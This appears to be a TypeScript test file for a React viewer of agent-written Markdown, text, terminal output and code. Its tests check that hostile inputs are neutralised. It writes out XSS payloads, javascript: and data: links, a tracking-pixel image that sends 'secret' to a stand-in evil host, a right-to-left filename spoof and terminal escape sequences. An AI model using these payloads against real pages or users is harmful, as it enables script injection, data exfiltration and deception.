import { MantineProvider } from '@mantine/core'
import { render, screen, waitFor } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import type { ReactNode } from 'react'
import { describe, expect, it } from 'vitest'
import { ansiLines, ansiSpans, ansiStyleAt, PLAIN } from '#src/ui/viewers/text/ansi.ts'
import { AnsiText } from '#src/ui/viewers/text/AnsiText.tsx'
import { BoundedText } from '#src/ui/viewers/text/BoundedText.tsx'
import { clipText } from '#src/ui/viewers/text/clipText.ts'
import { CodeBlock } from '#src/ui/viewers/code/CodeBlock.tsx'
import { Markdown } from '#src/ui/viewers/markdown/Markdown.tsx'
import { PlainText } from '#src/ui/viewers/text/PlainText.tsx'
import { visibleText } from '#src/lib/visibleText.ts'

const show = (node: ReactNode) => render(<MantineProvider env="test">{node}</MantineProvider>).container

describe('Markdown that an agent wrote', () => {
  it('is rendered, and the HTML in it is the text that it is', async () => {
    const page = show(
      <Markdown text={'**bold** <b>raw</b> <script>alert(1)</script>\n\n<iframe src="https://x.example">'} />,
    )
    expect(await screen.findByText('bold')).toHaveProperty('tagName', 'STRONG')
    expect(page.querySelector('script, iframe, b')).toBeNull()
    expect(page).toHaveTextContent('bold <b>raw</b> <script>alert(1)</script> <iframe src="https://x.example">')
  })

  it('keeps the tags of a prompt, line by line, and what stands between them', async () => {
    const prompt = '<rules>\nBe brief.\n\n- no **lists**\n</rules>\n\n> <quote>\n> said\n> </quote>\n\n1. <one/>'
    const page = show(<Markdown text={prompt} />)
    expect(await screen.findByText('lists')).toHaveProperty('tagName', 'STRONG')
    const lines = [...page.querySelectorAll('p')].map((paragraph) => paragraph.textContent)
    expect(lines).toEqual(['<rules>\nBe brief.', '<quote>\nsaid\n</quote>'])
    expect(page).toHaveTextContent('<rules> Be brief. no lists </rules> <quote> said </quote> <one/>')
  })

  it('loads no image from anywhere, and names it with a link', async () => {
    const page = show(<Markdown text="![chart](https://evil.example/pixel.gif?q=secret)" />)
    const link = await screen.findByRole('link', { name: 'chart' })
    expect(link).toHaveAttribute('href', 'https://evil.example/pixel.gif?q=secret')
    expect(page.querySelector('img')).toBeNull()
  })

  it('links to the web in a new tab without telling where the reader came from', async () => {
    show(<Markdown text="[site](https://example.org/a)" />)
    const link = await screen.findByRole('link', { name: 'site' })
    expect(link).toHaveAttribute('rel', 'noopener noreferrer')
    expect(link).toHaveAttribute('target', '_blank')
  })

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '/api/health',
    '//evil.example',
    '#top',
  ])('does not link to %s', async (address) => {
    const page = show(<Markdown text={`**seen** [word](${address})`} />)
    expect(await screen.findByText('seen')).toHaveProperty('tagName', 'STRONG')
    expect(page.querySelector('a')).toBeNull()
    expect(page).toHaveTextContent('word')
  })

  it('is parsed beside the page where it is long, with the same care', async () => {
    const filler = 'word '.repeat(400)
    const page = show(
      <Markdown text={`${filler}\n\n**bold** <b>raw</b> [go](javascript:alert(1)) ![a](https://x.example/p.gif)`} />,
    )
    expect(await screen.findByText('bold')).toHaveProperty('tagName', 'STRONG')
    expect(page.querySelector('b, img, a[href^="javascript"]')).toBeNull()
    expect(screen.getByRole('link', { name: 'a' })).toHaveAttribute('href', 'https://x.example/p.gif')
  })

  it('has one link, not two within each other, where an image bears a link', async () => {
    const page = show(<Markdown text="[![build](https://img.example/badge.svg)](https://ci.example/run)" />)
    expect(await screen.findByRole('link', { name: /build/ })).toHaveAttribute('href', 'https://ci.example/run')
    expect(page.querySelectorAll('a')).toHaveLength(1)
  })

  it('shows a task list as marks, not as controls', async () => {
    const page = show(<Markdown text={'- [x] done thing\n- [ ] open thing'} />)
    await waitFor(() => expect(page.querySelector('li')).not.toBeNull())
    expect(page.querySelector('input')).toBeNull()
    expect(page).toHaveTextContent('☑ done thing')
  })
})

describe('text that an agent wrote', () => {
  it('shows the characters that would turn its direction', () => {
    expect(visibleText('invoice\u202Efdp.exe')).toBe('invoice‹U+202E›fdp.exe')
  })

  it('shows control characters as pictures, and keeps tabs and line ends', () => {
    expect(visibleText('a\u0000b\u001b[31m\tc\r\nd\u009b')).toBe('a␀b␛[31m\tc\nd‹U+009B›')
    expect(visibleText('half \ud83d of a pair')).toBe('half \ufffd of a pair')
  })

  it('is text where it looks like markup', () => {
    const page = show(<PlainText text={'<img src=x onerror="alert(1)">'} />)
    expect(page.querySelector('img')).toBeNull()
    expect(page).toHaveTextContent('<img src=x onerror="alert(1)">')
  })

  it('is cut with the way to the whole', async () => {
    const page = show(<BoundedText text={'x'.repeat(9000)}>{(shown) => <PlainText text={shown} />}</BoundedText>)
    expect(page.querySelector('pre')?.textContent).toHaveLength(4000)
    await userEvent.click(screen.getByRole('button', { name: 'Show all 9,000 characters' }))
    expect(page.querySelector('pre')?.textContent).toHaveLength(9000)
  })

  it('of a megabyte on one line opens in pieces, and never as one', async () => {
    const page = show(<BoundedText text={'x'.repeat(1_000_000)}>{(shown) => <PlainText text={shown} />}</BoundedText>)
    await userEvent.click(screen.getByRole('button', { name: 'Show all 1,000,000 characters' }))
    const rows = [...page.querySelectorAll('[data-index]')]
    expect(rows.length).toBeGreaterThan(5)
    expect(rows.length).toBeLessThan(120)
    expect(Math.max(...rows.map((row) => row.textContent.length))).toBeLessThan(2100)
    await userEvent.click(screen.getByRole('button', { name: 'Show less' }))
    expect(page.querySelector('pre')?.textContent).toHaveLength(4000)
  })

  it('is cut between characters and at whole lines', () => {
    expect(clipText('ab😀', { chars: 3, lines: 9 })).toBe('ab')
    expect(clipText('a\nb\nc', { chars: 99, lines: 2 })).toBe('a\nb')
    expect(clipText('a\nb', { chars: 99, lines: 2 })).toBe('a\nb')
  })
})

describe('what a terminal printed', () => {
  const plain = (text: string) => ansiLines(text).map((line) => line.map((span) => span.text).join(''))

  it('has its colours, and its escapes are gone', () => {
    const page = show(<AnsiText text={'\u001b[1;31mfailed\u001b[0m ok'} />)
    expect(page.querySelector('[data-colour="red"][data-bold]')).toHaveTextContent('failed')
    expect(page.querySelector('pre')?.textContent).toBe('failed ok')
  })

  it('keeps a colour across lines until it is reset', () => {
    const lines = ansiLines('\u001b[32ma\nb\u001b[39mc')
    expect(lines.map((line) => line.map((span) => span.style.colour))).toEqual([['green'], ['green', undefined]])
  })

  it('cannot set titles, make links or move the cursor', () => {
    expect(plain('\u001b]0;title\u0007a\u001b]8;;https://x\u001b\\b\u001b[2J\u001b[10;10Hc')).toEqual(['abc'])
  })

  it('does not take a palette entry for another colour', () => {
    expect(ansiLines('\u001b[38;5;31mx')[0]?.[0]?.style.colour).toBeUndefined()
    expect(ansiLines('\u001b[38;2;1;31;4;1mx')[0]?.[0]?.style).toMatchObject({ bold: true, underline: false })
  })

  it('loses no text behind a sequence that never ends', () => {
    expect(plain('\u001b]never ends\nnext')).toEqual(['never ends', 'next'])
    expect(plain('a\u001b')).toEqual(['a'])
  })

  it('has the same style at every place, whether it is read from the top or from there', () => {
    const text = 'a\u001b[31mb\u001b]0;t\u0007c\nd\u001b[1;39me\u001b[2Kf\u001b[0m\ng\u001b[3'
    const styleAt = ansiStyleAt(text)
    let style = PLAIN
    let start = 0
    for (const line of text.split('\n')) {
      expect(styleAt(start)).toEqual(style)
      style = ansiSpans(line, style).style
      start += line.length + 1
    }
    expect(styleAt(text.indexOf('e'))).toMatchObject({ bold: true, colour: undefined })
    expect(styleAt(text.indexOf('b'))).toMatchObject({ bold: false, colour: 'red' })
  })

  it('shows every state of a progress bar', () => {
    expect(plain('1%\r2%\r\ndone')).toEqual(['1%', '2%', 'done'])
  })
})

describe('code', () => {
  it('is coloured by elements of ours and stays the text that it was', async () => {
    const code = 'def f():\n    return "<script>alert(1)</script>"'
    const page = show(<CodeBlock code={code} language="Python" />)
    await waitFor(() => expect(page.querySelector('.hljs-keyword')).toHaveTextContent('def'))
    expect(page.querySelector('script')).toBeNull()
    expect(page.querySelector('pre')?.textContent).toBe(code)
  })

  it('is plain in a language that nobody knows', async () => {
    const page = show(
      <>
        <CodeBlock code="return 1" language="klingon" />
        <CodeBlock code="return 2" language="python" />
      </>,
    )
    // Once the last one has its colours the highlighter is there, and the other would have them.
    await waitFor(() => expect(page.querySelectorAll('pre')[1]?.querySelector('.hljs-keyword')).not.toBeNull())
    expect(page.querySelector('pre')?.querySelector('span')).toBeNull()
  })

  it('of 40,000 lines is drawn as far as it is in view', () => {
    const page = show(<CodeBlock code={'x = 1\n'.repeat(40_000)} language="python" />)
    const lines = screen.getByRole('region', { name: 'Full python' })
    expect(lines).toHaveTextContent(/^1x = 12x = 1/)
    expect(page.querySelectorAll('[data-index]').length).toBeLessThan(120)
  })
})
